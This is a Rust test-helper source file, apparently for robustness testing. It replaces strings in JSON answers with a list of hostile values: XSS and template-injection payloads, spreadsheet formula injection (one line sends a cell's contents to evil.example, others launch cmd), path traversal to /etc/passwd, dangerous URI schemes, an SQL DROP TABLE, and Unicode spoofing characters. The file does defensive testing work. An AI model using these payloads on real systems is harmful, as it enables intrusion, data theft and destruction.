//! The values, and how they come into an answer.

use serde_json::Value;

/// Stands for half of a pair of units, which no text in memory can hold: [`wire`] writes it as an escape.
const HALF: &str = "⟦half⟧";

/// What is put in the place of texts.
pub const TEXTS: &[&str] = &[
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+1",
    "\t=1+1",
    "\r\n=1+1",
    "＝1+1",
    "\u{61c}\u{ad}=1+1",
    "'=1+1",
    "+4930123456",
    "gpj.\u{202e}exe",
    "\u{2066}a\u{2069}\u{61c}b\u{fff9}c\u{fffb}",
    "a\u{0}b",
    "\u{0}",
    "\u{feff}name\u{200b}",
    "\u{200b}\u{2060}\u{3164}",
    "line one\nline two\r\n\u{2028}line three",
    "\u{1b}[31mred\u{7}\u{8}",
    "⟦half⟧",
    "a⟦half⟧b",
    "../../etc/passwd",
    "C:\\Windows\\System32\\calc.exe",
    "\\\\evil.example\\share\\x.lnk",
    "CON",
    "javascript:alert(1)",
    "JaVaScRiPt://x.example/%0aalert(1)",
    " javascript:alert(1)",
    "file:///etc/passwd",
    "file://evil.example/share",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "mailto:someone@evil.example?attach=/etc/passwd",
    "tel:+4930123456",
    "ms-msdt:/id",
    "https://good.example@evil.example/",
    "https://evil.example\u{202e}/gpj.exe",
    "http://127.0.0.1:1/x",
    "'; DROP TABLE records; --",
    "%s%n",
    "",
    "null",
    "__proto__",
    "1e999",
    "9999999999999999999999999",
    "NaN",
];

/// An answer as it goes over the wire.
pub fn wire(answer: &Value) -> Vec<u8> {
    answer.to_string().replace(HALF, "\\ud83d").into_bytes()
}

/// How many texts are in an answer.
pub fn texts_in(answer: &Value) -> usize {
    let mut count = 0;
    each_text(&mut answer.clone(), &mut |_| count += 1);
    count
}

/// Every text of an answer replaced by another of the values: over all turns each text has had each value.
pub fn all(answer: &Value, turn: usize) -> Value {
    let (mut changed, mut at) = (answer.clone(), 0);
    each_text(&mut changed, &mut |text| {
        *text = TEXTS[(at + turn) % TEXTS.len()].to_owned();
        at += 1;
    });
    changed
}

/// One text of an answer replaced.
pub fn one(answer: &Value, place: usize, by: &str) -> Value {
    let (mut changed, mut at) = (answer.clone(), 0);
    each_text(&mut changed, &mut |text| {
        if at == place {
            by.clone_into(text);
        }
        at += 1;
    });
    changed
}

/// The same about somebody else, so that two are not taken for one.
pub fn somebody_else(answer: &Value, number: usize) -> Value {
    let mut changed = answer.clone();
    each_text(&mut changed, &mut |text| {
        for name in ["ada-lovelace", "alpenweiss", "acme", "okafor"] {
            *text = text.replace(name, &format!("{name}-{number}"));
        }
    });
    changed
}

/// With fields that nobody knows, under names that are no names.
pub fn with_names(answer: &Value) -> Value {
    let mut changed = answer.clone();
    if let Value::Object(fields) = &mut changed {
        for (at, name) in TEXTS.iter().enumerate() {
            fields.insert((*name).to_owned(), Value::from(format!("under a name {at}")));
        }
    }
    changed
}

fn each_text(value: &mut Value, see: &mut impl FnMut(&mut String)) {
    match value {
        Value::String(text) => see(text),
        Value::Array(items) => items.iter_mut().for_each(|item| each_text(item, see)),
        Value::Object(fields) => fields.values_mut().for_each(|inner| each_text(inner, see)),
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}
